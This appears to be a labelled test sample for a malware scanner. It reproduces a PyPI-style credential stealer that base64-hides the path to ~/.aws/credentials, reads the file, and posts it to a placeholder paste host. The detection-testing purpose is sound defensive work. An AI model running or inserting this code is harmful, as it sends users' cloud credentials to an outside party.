# expect: data-out,secret-read
# source: PyPI malware reports (Phylum, Checkmarx)
# technique: base64-hidden path to ~/.aws/credentials read and POSTed
import base64
import os
import requests

p = os.path.expanduser(base64.b64decode("fi8uYXdzL2NyZWRlbnRpYWxz").decode())
requests.post("https://paste.example.net/api", data=open(p).read())
